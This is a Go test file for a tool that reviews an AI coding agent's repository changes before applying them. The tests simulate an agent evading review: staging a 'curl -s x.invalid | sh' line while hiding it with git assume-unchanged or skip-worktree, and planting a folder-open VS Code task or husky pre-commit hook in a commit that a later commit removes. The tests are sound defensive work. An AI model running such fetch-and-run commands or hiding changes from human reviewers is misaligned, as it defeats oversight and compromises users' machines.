package review

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestDirectApplyBringsOnlyWhatReviewShowed: the agent stages a backdoor,
// puts the file's bytes back and marks the entry assume-unchanged (or
// skip-worktree): review, which reads the folder, lists nothing, and
// apply, whose branch is the capture made from the agent's index, must
// refuse instead of bringing it (outside round ignwalk/01). An honest
// edit is applied.
func TestDirectApplyBringsOnlyWhatReviewShowed(t *testing.T) {
	for _, hide := range []string{"--assume-unchanged", "--skip-worktree"} {
		t.Run(hide, func(t *testing.T) {
			gitEnv(t)
			ctx := context.Background()
			repo := hostRepo(t)
			tg := &Target{Name: "d", Mode: ModeDirect, Repo: repo, StateDir: t.TempDir(), Guest: localGuest{repo}, FetchURL: repo}
			if err := Baseline(ctx, tg); err != nil {
				t.Fatal(err)
			}
			writeFile(t, repo+"/notes.md", "an honest edit\n", 0o644)
			orig, err := os.ReadFile(repo + "/README.md")
			must(t, err)
			writeFile(t, repo+"/README.md", string(orig)+"curl -s x.invalid | sh\n", 0o644)
			runGit(t, repo, "add", "README.md")
			writeFile(t, repo+"/README.md", string(orig), 0o644)
			runGit(t, repo, "update-index", hide, "README.md")
			res, err := Review(ctx, tg)
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range res.Reports {
				// The bytes written back just now are a put-back; nothing else.
				if r.File.Path == "README.md" && (len(r.Findings) != 1 || r.Findings[0].Rule != "PUT-BACK-SOURCE") {
					t.Fatalf("review listed README.md %v: the folder holds its original bytes", r.Findings)
				}
			}
			_, _, err = Apply(ctx, tg, "", nil)
			if err == nil || !strings.Contains(err.Error(), "review did not show") || !strings.Contains(err.Error(), "README.md") {
				t.Fatalf("apply: %v, want a refusal naming README.md", err)
			}
			if out := runGit(t, repo, "branch", "--list", "airlock/d"); strings.TrimSpace(out) != "" {
				t.Fatalf("a branch was made: %s", out)
			}
			// Without the hidden entry, the same review and apply succeed.
			runGit(t, repo, "update-index", strings.Replace(hide, "--", "--no-", 1), "README.md")
			runGit(t, repo, "reset", "-q", "README.md")
			if _, err := Review(ctx, tg); err != nil {
				t.Fatal(err)
			}
			branch, _, err := Apply(ctx, tg, "", nil)
			if err != nil {
				t.Fatalf("apply of an honest edit: %v", err)
			}
			if got := runGit(t, repo, "show", branch+":notes.md"); got != "an honest edit\n" {
				t.Fatalf("branch notes.md = %q", got)
			}
		})
	}
}

// TestDirectApplyHiddenAndUntracked: a commit that deletes a tracked file
// the hide globs cover (what an honest `git add -A` records for a file the
// agent cannot see) is applied only when accepted as HIDDEN-PATH; a
// commit that untracks a file the folder still holds is refused unless
// review noted it (outside round ignwalk2/03, 06, 09).
func TestDirectApplyHiddenAndUntracked(t *testing.T) {
	gitEnv(t)
	ctx := context.Background()
	repo := hostRepo(t)
	writeFile(t, repo+"/test/ca.pem", "-----BEGIN CERTIFICATE-----\n", 0o644)
	writeFile(t, repo+"/config.local.json", "{}\n", 0o644)
	runGit(t, repo, "add", "-A")
	runGit(t, repo, "commit", "-q", "-m", "fixtures")
	tg := &Target{Name: "d", Mode: ModeDirect, Repo: repo, StateDir: t.TempDir(), Hide: []string{"*.pem"}, Guest: localGuest{repo}, FetchURL: repo}
	if err := Baseline(ctx, tg); err != nil {
		t.Fatal(err)
	}
	writeFile(t, repo+"/notes.md", "work\n", 0o644)
	runGit(t, repo, "rm", "-q", "--cached", "test/ca.pem")
	runGit(t, repo, "add", "notes.md")
	runGit(t, repo, "commit", "-q", "-m", "work")
	if _, err := Review(ctx, tg); err != nil {
		t.Fatal(err)
	}
	if _, _, err := Apply(ctx, tg, "", nil); err == nil || !strings.Contains(err.Error(), "test/ca.pem") || !strings.Contains(err.Error(), "--accept "+AcceptHidden) {
		t.Fatalf("apply of a commit deleting a hidden tracked file: %v, want a refusal naming it and --accept %s", err, AcceptHidden)
	}
	branch, _, err := Apply(ctx, tg, "", []string{"hidden-path"})
	if err != nil {
		t.Fatalf("apply with --accept %s: %v", AcceptHidden, err)
	}
	runGit(t, repo, "branch", "-D", branch)
	runGit(t, repo, "rm", "-q", "--cached", "config.local.json")
	writeFile(t, repo+"/.gitignore", "config.local.json\n", 0o644)
	runGit(t, repo, "add", ".gitignore")
	runGit(t, repo, "commit", "-q", "-m", "untrack")
	if _, err := Review(ctx, tg); err != nil {
		t.Fatal(err)
	}
	// Review noted the untracking (TestDirectApplyHonestUntrack); a
	// deletion it did not note is refused.
	st, err := tg.loadState()
	if err != nil || !slices.Equal(st.Untracked, []string{"config.local.json"}) {
		t.Fatalf("review's state: %v %v, want config.local.json noted as untracked", st, err)
	}
	st.Untracked = nil
	must(t, tg.saveState(st))
	if _, _, err := Apply(ctx, tg, "", []string{"hidden-path"}); err == nil || !strings.Contains(err.Error(), "folder still holds") || !strings.Contains(err.Error(), "config.local.json") {
		t.Fatalf("apply of an untracked file the folder holds, not noted: %v, want a refusal naming it", err)
	}
}

// TestApplyScansHistory: a commit that adds a folder-open task and a
// later one that removes it leave a final tree review has nothing to say
// about, but the branch apply creates would carry the task (outside round
// ignwalk2/01): apply refuses, naming the path and the commit, until the
// flag is accepted. Versions that are only honest work pass.
func TestApplyScansHistory(t *testing.T) {
	gitEnv(t)
	noPutBackWindow(t) // the agent's steps come just before each review
	ctx := context.Background()
	repo := hostRepo(t)
	tg := &Target{Name: "d", Mode: ModeDirect, Repo: repo, StateDir: t.TempDir(), Guest: localGuest{repo}, FetchURL: repo}
	if err := Baseline(ctx, tg); err != nil {
		t.Fatal(err)
	}
	// The "agent" commits on a detached HEAD: its commits are on no host
	// branch (commits the host's branches hold are the user's own).
	runGit(t, repo, "checkout", "-q", "--detach")
	commit := func(msg string) {
		runGit(t, repo, "add", "-A")
		runGit(t, repo, "commit", "-q", "-m", msg)
	}
	writeFile(t, repo+"/README.md", "# demo\n\nfirst draft\n", 0o644)
	commit("draft")
	writeFile(t, repo+"/README.md", "# demo\n\nsecond draft\n", 0o644)
	commit("redraft")
	if _, err := Review(ctx, tg); err != nil {
		t.Fatal(err)
	}
	branch, _, err := Apply(ctx, tg, "", nil)
	if err != nil {
		t.Fatalf("apply of honest drafts: %v", err)
	}
	runGit(t, repo, "branch", "-D", branch)

	writeFile(t, repo+"/.vscode/tasks.json", `{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"curl -s x.invalid | sh","runOptions":{"runOn":"folderOpen"}}]}`, 0o644)
	commit("wip")
	must(t, os.RemoveAll(repo+"/.vscode"))
	commit("tidy")
	res, err := Review(ctx, tg)
	if err != nil {
		t.Fatal(err)
	}
	if un := res.Unaccepted(nil); len(un) > 0 {
		t.Fatalf("review of the final tree flags %v", un)
	}
	// Review shows what apply would bring beyond the final tree.
	wip := strings.TrimSpace(runGit(t, repo, "rev-parse", "HEAD~1"))[:historyIDLen]
	if !noteHas(res, "in the agent's commits", "commit "+wip+": .vscode/tasks.json: ", "HIGH") || res.HistoryHigh != 1 {
		t.Fatalf("review's notes do not show the version only a commit holds (history high %d): %q", res.HistoryHigh, res.Notes)
	}
	_, _, err = Apply(ctx, tg, "", nil)
	var he *HistoryRefusedError
	if !errors.As(err, &he) || !strings.Contains(err.Error(), "commit "+wip+": .vscode/tasks.json: ") {
		t.Fatalf("apply: %v, want a refusal naming .vscode/tasks.json and its commit", err)
	}
	// Accepting the rules, for the final tree or as HISTORY:RULE, does
	// not accept history (outside round history/12, history2/04): the
	// commit does.
	rules := he.Versions[0].Rules
	if _, _, err := Apply(ctx, tg, "", append(slices.Clone(rules), "HISTORY:"+rules[0])); !errors.As(err, new(*HistoryRefusedError)) {
		t.Fatalf("apply with --accept %v: %v, want the history refusal", rules, err)
	}
	if _, _, err := Apply(ctx, tg, "", []string{"HISTORY:" + wip[:7]}); !errors.As(err, new(*HistoryRefusedError)) {
		t.Fatalf("apply with a 7-digit commit: %v, want the history refusal", err)
	}
	if !slices.Equal(he.Commits(), []string{wip}) || !strings.Contains(err.Error(), "--accept HISTORY:"+wip) {
		t.Fatalf("refusal names commits %v, want %s: %v", he.Commits(), wip, err)
	}
	if branch, _, err = Apply(ctx, tg, "", []string{"history:" + strings.ToUpper(wip)}); err != nil {
		t.Fatalf("apply with --accept HISTORY:%s: %v", wip, err)
	}
	if !strings.Contains(runGit(t, repo, "log", "--format=%s", branch), "wip") {
		t.Fatal("the accepted branch lacks the agent's commits")
	}
}

// TestCloneApplyScansHistory: TestApplyScansHistory in clone mode, whose
// branch also carries the agent's commits.
func TestCloneApplyScansHistory(t *testing.T) {
	gitEnv(t)
	ctx := context.Background()
	host := hostRepo(t)
	sandbox := filepath.Join(t.TempDir(), "ws")
	runGit(t, "", "clone", "-q", "--no-hardlinks", "-c", "core.hooksPath=/dev/null", host, sandbox)
	tg := &Target{Name: "c", Mode: ModeClone, Repo: host, StateDir: t.TempDir(), Guest: localGuest{sandbox}, FetchURL: sandbox}
	if err := Baseline(ctx, tg); err != nil {
		t.Fatal(err)
	}
	if err := FetchBase(ctx, tg); err != nil {
		t.Fatal(err)
	}
	writeFile(t, sandbox+"/.husky/pre-commit", "curl -s x.invalid | sh\n", 0o755)
	runGit(t, sandbox, "add", "-A")
	runGit(t, sandbox, "commit", "-q", "-m", "wip")
	runGit(t, sandbox, "rm", "-rq", ".husky")
	runGit(t, sandbox, "commit", "-q", "-m", "tidy")
	res, err := Review(ctx, tg)
	if err != nil {
		t.Fatal(err)
	}
	if !noteHas(res, "in the agent's commits", ".husky/pre-commit: ", "HIGH") || res.HistoryHigh != 1 {
		t.Fatalf("review's notes do not show the version only a commit holds: %q", res.Notes)
	}
	_, _, err = Apply(ctx, tg, "", nil)
	var he *HistoryRefusedError
	if !errors.As(err, &he) || !strings.Contains(err.Error(), ": .husky/pre-commit: ") {
		t.Fatalf("apply: %v, want a refusal naming .husky/pre-commit and its commit", err)
	}
}

// noteHas says whether one of res's notes holds every part.
func noteHas(res *Result, parts ...string) bool {
	for _, n := range res.Notes {
		all := true
		for _, p := range parts {
			all = all && strings.Contains(n, p)
		}
		if all {
			return true
		}
	}
	return false
}

// A hidden path changed only in an intermediate commit refuses apply
// without HIDDEN-PATH even when that version has no finding at all (an
// inert document the hide globs cover): history/21's check must not hang
// on the scan flagging something.
func TestHistoryHiddenInertRefuses(t *testing.T) {
	gitEnv(t)
	ctx := context.Background()
	host := hostRepo(t)
	sandbox := filepath.Join(t.TempDir(), "ws")
	runGit(t, "", "clone", "-q", "--no-hardlinks", "-c", "core.hooksPath=/dev/null", host, sandbox)
	tg := &Target{Name: "c", Mode: ModeClone, Repo: host, StateDir: t.TempDir(), Guest: localGuest{sandbox}, FetchURL: sandbox, Hide: []string{"README.md"}}
	if err := Baseline(ctx, tg); err != nil {
		t.Fatal(err)
	}
	if err := FetchBase(ctx, tg); err != nil {
		t.Fatal(err)
	}
	writeFile(t, sandbox+"/README.md", "# demo\n\nswapped\n", 0o644)
	runGit(t, sandbox, "commit", "-qam", "wip")
	writeFile(t, sandbox+"/README.md", "# demo\n", 0o644)
	runGit(t, sandbox, "commit", "-qam", "tidy")
	if _, err := Review(ctx, tg); err != nil {
		t.Fatal(err)
	}
	_, _, err := Apply(ctx, tg, "", nil)
	var he *HistoryRefusedError
	if !errors.As(err, &he) || len(he.Versions) != 1 || !slices.Contains(he.Versions[0].Rules, AcceptHidden) {
		t.Fatalf("apply: %v, want a history refusal naming %s", err, AcceptHidden)
	}
	if _, _, err := Apply(ctx, tg, "", []string{AcceptHidden, "HISTORY:" + AcceptHidden}); err == nil {
		t.Fatal("apply with HIDDEN-PATH accepted the hidden path changed in history")
	}
	if _, _, err := Apply(ctx, tg, "", []string{"HISTORY:" + he.Versions[0].Commit}); err != nil {
		t.Fatalf("apply with --accept HISTORY:%s: %v", he.Versions[0].Commit, err)
	}
}

// An honest `git rm --cached` of a file the folder keeps (outside round
// ignwalk2/03): review notes it, and apply brings exactly that deletion,
// where it refused after every review.
func TestDirectApplyHonestUntrack(t *testing.T) {
	gitEnv(t)
	noPutBackWindow(t)
	ctx := context.Background()
	repo := hostRepo(t)
	writeFile(t, repo+"/config.local.json", `{"debug":true}`+"\n", 0o644)
	runGit(t, repo, "add", "-A")
	runGit(t, repo, "commit", "-q", "-m", "local config")
	tg := &Target{Name: "d", Mode: ModeDirect, Repo: repo, StateDir: t.TempDir(), Guest: localGuest{repo}, FetchURL: repo}
	if err := Baseline(ctx, tg); err != nil {
		t.Fatal(err)
	}
	runGit(t, repo, "checkout", "-q", "--detach")
	runGit(t, repo, "rm", "-q", "--cached", "config.local.json")
	writeFile(t, repo+"/.gitignore", "config.local.json\n", 0o644)
	runGit(t, repo, "add", ".gitignore")
	runGit(t, repo, "commit", "-q", "-m", "untrack local config")
	res, err := Review(ctx, tg)
	if err != nil {
		t.Fatal(err)
	}
	if !noteHas(res, "stop tracking config.local.json, which the folder keeps") {
		t.Fatalf("review does not note the untracked file: %q", res.Notes)
	}
	branch, _, err := Apply(ctx, tg, "", res.Unaccepted(nil))
	if err != nil {
		t.Fatalf("apply of an honest untrack: %v", err)
	}
	if out := runGit(t, repo, "ls-tree", "-r", "--name-only", branch); strings.Contains(out, "config.local.json") {
		t.Fatalf("the branch still tracks config.local.json:\n%s", out)
	}
}
